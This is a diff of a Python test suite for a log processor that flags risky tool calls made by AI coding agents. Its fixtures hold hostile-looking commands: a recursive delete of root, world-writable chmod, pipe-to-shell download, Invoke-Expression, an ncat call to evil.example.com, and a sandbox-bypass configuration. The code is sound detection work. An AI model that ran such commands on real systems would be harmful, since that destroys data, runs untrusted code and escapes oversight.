@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import time
 from pathlib import Path
 from typing import Any
@@ -15,22 +16,22 @@ from collector import agent_model as am
 from collector import registry, telemetry
 from collector.component import ComponentConfig, ConfigContext, Factory, LogsData, Processor
 from collector.config import parse
+from collector.records import Logs, Traces
 from collector.service import Service
-from processors.detections import (
+from processors.detections.config import DetectionsConfig
+from processors.detections.internal.literals import required_literals
+from processors.detections.processor import FACTORY, SCOPE_NAME, DetectionsProcessor
+from processors.detections.rules import (
     DEFAULT_RULES_FILE,
-    FACTORY,
-    SCOPE_NAME,
-    DetectionsConfig,
-    DetectionsProcessor,
     RuleFileError,
     build_rule_set,
-    event_record,
     load_rules,
-    record_fields,
-    test_rules,
+    regexes_of,
 )
+from processors.detections.rules_test import sample_fields, test_rules
 from processors.redaction import RedactionConfig, RedactionProcessor
 from tests.components import InjectReceiver, RecordingExporter
+from tests.otlp_factory import attr
 
 ANTHROPIC_KEY = "sk-ant-api03-" + "Qw3r" * 20
 CAPTURED = Path(__file__).parent / "data" / "captured"
@@ -244,7 +245,7 @@ def default_rules() -> Any:
 
 
 def _fields(event: dict[str, Any]) -> dict[str, tuple[str, ...]]:
-    return record_fields(event_record({"event": "tool_call", **event}).attributes)[0]
+    return sample_fields({"event": "tool_call", **event})
 
 
 def test_every_default_rule_has_cases() -> None:
@@ -281,18 +282,35 @@ def tool_call(**attrs: Any) -> dict[str, Any]:
     }
 
 
-def batch(*records: dict[str, Any]) -> LogsData:
+def request(*records: dict[str, Any]) -> LogsData:
     data = LogsData()
     rl = data.resource_logs.add()
     rl.resource.attributes.add(key="service.name").value.string_value = "claude-code"
     scope = rl.scope_logs.add()
     for i, attrs in enumerate(records):
         record = scope.log_records.add(time_unix_nano=1_800_000_000_000_000_000 + i)
-        record.MergeFrom(event_record(attrs))
+        record.attributes.extend(attr(k, v) for k, v in attrs.items())
     return data
 
 
-def detections(data: LogsData) -> list[dict[str, Any]]:
+def batch(*records: dict[str, Any]) -> Logs:
+    return Logs.from_proto(request(*records))
+
+
+def through(p: Processor, data: Logs) -> Logs:
+    """``data`` through a processor in whichever form it takes (as the pipeline converts)."""
+    out = (
+        p.consume_logs(data)
+        if p.takes_records
+        else Logs.from_proto(p.consume_logs(data.to_proto()))
+    )
+    assert out is not None
+    return out
+
+
+def detections(data: LogsData | Logs) -> list[dict[str, Any]]:
+    if isinstance(data, Logs):
+        data = data.to_proto()
     out = []
     for rl in data.resource_logs:
         for sl in rl.scope_logs:
@@ -350,7 +368,7 @@ def test_a_match_becomes_a_detection_record_with_scrubbed_evidence() -> None:
         == before + 1
     )
     # the source record itself is left alone (redaction comes later)
-    source = data.resource_logs[0].scope_logs[0].log_records[0]
+    source = data.to_proto().resource_logs[0].scope_logs[0].log_records[0]
     assert any(kv.value.string_value == command for kv in source.attributes)
 
 
@@ -447,8 +465,8 @@ def test_a_batch_processed_again_raises_its_detections_again(tmp_path: Path) -> 
     try:
         receiver = svc.receivers["inject"]
         assert isinstance(receiver, InjectReceiver)
-        request = batch(tool_call(**{am.COMMAND: "rm -rf /", am.TOOL_CALL_ID: "toolu_r"}))
-        assert receiver.push(_copy(request)).rejected == 0  # the second pass succeeded
+        sent = request(tool_call(**{am.COMMAND: "rm -rf /", am.TOOL_CALL_ID: "toolu_r"}))
+        assert receiver.push(_copy(sent)).rejected == 0  # the second pass succeeded
         recorder = RecordingExporter.instances["recording/detections"]
         deadline = time.monotonic() + 10
         while not recorder.delivered and time.monotonic() < deadline:
@@ -514,9 +532,27 @@ def test_records_without_agent_events_are_left_alone() -> None:
     data = batch(
         {"event.name": "x", am.COMMAND: "rm -rf /"}, {am.EVENT: "api_call", am.COMMAND: "rm -rf /"}
     )
-    before = data.SerializeToString()
+    before = data.to_proto().SerializeToString()
     processor().consume_logs(data)
-    assert data.SerializeToString() == before
+    assert data.to_proto().SerializeToString() == before
+
+
+def test_each_detection_goes_into_its_source_resource() -> None:
+    data = request(tool_call(**{am.COMMAND: "rm -rf /"}), tool_call(**{am.COMMAND: "ls"}))
+    other = data.resource_logs.add()
+    other.resource.attributes.add(key="service.name").value.string_value = "codex"
+    other.scope_logs.add().log_records.add().attributes.extend(
+        attr(k, v) for k, v in tool_call(**{am.COMMAND: "chmod 777 /srv"}).items()
+    )
+    logs = Logs.from_proto(data)
+    processor().consume_logs(logs)
+    out = logs.to_proto()
+    assert len(out.resource_logs) == 2
+    expected = ["destructive-rm", "chmod-world-writable"]
+    for rl, rule_id in zip(out.resource_logs, expected, strict=True):
+        assert [sl.scope.name for sl in rl.scope_logs] == ["", SCOPE_NAME]
+        [found] = detections(LogsData(resource_logs=[rl]))
+        assert found[am.RULE_ID] == rule_id
 
 
 def test_own_detections_are_not_evaluated_again() -> None:
@@ -536,10 +572,10 @@ def test_detections_before_redaction_keep_the_audit_trail_but_no_secret() -> Non
         tool_call(**{am.COMMAND: command, am.TOOL_ARGUMENTS: json.dumps({"command": command})})
     )
     processor().consume_logs(data)
-    RedactionProcessor("redaction", RedactionConfig()).consume_logs(data)
-    serialized = data.SerializeToString()
+    data = through(RedactionProcessor("redaction", RedactionConfig()), data)
+    serialized = data.to_proto().SerializeToString()
     assert ANTHROPIC_KEY.encode() not in serialized
-    source = {kv.key for kv in data.resource_logs[0].scope_logs[0].log_records[0].attributes}
+    source = set(data.records[0].attributes)
     assert am.COMMAND not in source and am.TOOL_ARGUMENTS not in source
     assert am.TOOL_ARGUMENTS_SIZE in source
     [found] = detections(data)
@@ -563,18 +599,23 @@ def test_spans_raise_detections_through_the_logs_hook() -> None:
         end_time_unix_nano=1_800_000_000_000_000_123,
     )
     span.attributes.extend(
-        event_record(
-            {am.EVENT: "tool_call", am.AGENT: "copilot_chat", am.COMMAND: "chmod 777 /srv"}
-        ).attributes
+        attr(k, v)
+        for k, v in {
+            am.EVENT: "tool_call",
+            am.AGENT: "copilot_chat",
+            am.COMMAND: "chmod 777 /srv",
+        }.items()
     )
     p = processor()
-    before = data.SerializeToString()
-    p.consume_traces(data)  # no hook wired: nothing to send detections to
-    emitted: list[LogsData] = []
+    spans = Traces.from_proto(data)
+    before = Traces.from_proto(data).to_proto().SerializeToString()
+    p.consume_traces(spans)  # no hook wired: nothing to send detections to
+    emitted: list[Logs] = []
     p.emit_logs = emitted.append
-    assert p.consume_traces(data) is data
-    assert data.SerializeToString() == before
-    [logs_data] = emitted
+    assert p.consume_traces(spans) is spans
+    assert spans.to_proto().SerializeToString() == before
+    [logs] = emitted
+    logs_data = logs.to_proto()
     assert logs_data.resource_logs[0].resource == rs.resource
     [found] = detections(logs_data)
     assert found[am.RULE_ID] == "chmod-world-writable" and found[am.AGENT] == "copilot_chat"
@@ -633,6 +674,53 @@ def test_malformed_rule_files_are_config_errors_naming_the_path(
     assert problem in errors[0]
     with pytest.raises(RuleFileError, match=r"rules\.yaml"):
         FACTORY.create("detections", DetectionsConfig(rules_file=str(path), default_rules=False))
+
+
+@pytest.mark.parametrize(
+    ("rules", "at"),
+    [
+        (rule("a") + rule("x", "{any: [{command: x}, {foo: bar}]}"), "rules[1].match.any[1].foo"),
+        (rule("z", "{not: {command: {regex: '('}}}"), "rules[0].match.not.command.regex"),
+        (rule("z", events="[tool_call, tool_use]"), "rules[0].events[1]"),
+        (rule("z", "{mcp_server: {in_list: nope}}"), "rules[0].match.mcp_server.in_list"),
+        ("  - {id: z, severity: low, description: d, match: {all: []}}\n", "rules[0].match.all"),
+    ],
+)
+def test_rule_file_errors_give_the_exact_path_of_the_bad_field(
+    tmp_path: Path, rules: str, at: str
+) -> None:
+    path = tmp_path / "rules.yaml"
+    path.write_text("rules:\n" + rules)
+    with pytest.raises(RuleFileError) as error:
+        build_rule_set([path])
+    assert str(error.value).startswith(f"{path}: ")
+    assert f"(at {at})" in str(error.value)
+
+
+def test_a_regex_matches_only_text_holding_one_of_its_required_literals() -> None:
+    """The prefilter's soundness: whatever a default regex matches contains one of the literals
+    it is skipped without."""
+    samples = [e[key] for pos, neg in CASES.values() for e in pos + neg for key in e]
+    samples += ["CURL https://x | SH", "Invoke-Expression (IWR x)", "NCAT -v evil.example.com 1"]
+    rules, _ = load_rules(DEFAULT_RULES_FILE)
+    checked = 0
+    for r in rules:
+        for _, regex in regexes_of(r.match):
+            literals = required_literals(regex)
+            assert literals, regex  # every default regex has some
+            for text in samples:
+                if re.search(regex, text):
+                    checked += 1
+                    assert any(lit in text.lower() for lit in literals), (regex, text)
+    assert checked > 40
+    assert required_literals(r"(?i)\b(?:iex|invoke-expression)\b") == {"iex", "invoke-expression"}
+    assert required_literals(r"a?b*") is None and required_literals(r"x(?!y)") == {"x"}
+
+
+def test_rules_on_values_the_prefilter_cannot_judge_still_match() -> None:
+    rules = build_rule_set([DEFAULT_RULES_FILE], LISTS)
+    matched = rules.evaluate(_fields({"command": "echo é; chmod 777 /srv"}))
+    assert [m.rule.id for m in matched] == ["chmod-world-writable"]
 
 
 def test_missing_rule_file_is_a_config_error(tmp_path: Path) -> None:
@@ -752,10 +840,9 @@ def test_real_codex_session_without_sandbox_is_detected() -> None:
         if capture["signal"] != "logs":
             continue
         data = parse_otlp_json("logs", json.dumps(capture["request"]).encode())
-        data = normalize.consume_logs(data)
-        assert data is not None
-        detect.consume_logs(data)
-        found.extend(detections(data))
+        logs = through(normalize, Logs.from_proto(data))
+        detect.consume_logs(logs)
+        found.extend(detections(logs))
     assert [d[am.RULE_ID] for d in found] == ["permission-bypass-codex"]
     assert found[0][am.EVIDENCE] == "sandbox=danger-full-access; approval_policy=never"
     assert found[0][am.AGENT] == "codex" and found[0][am.SESSION_ID]
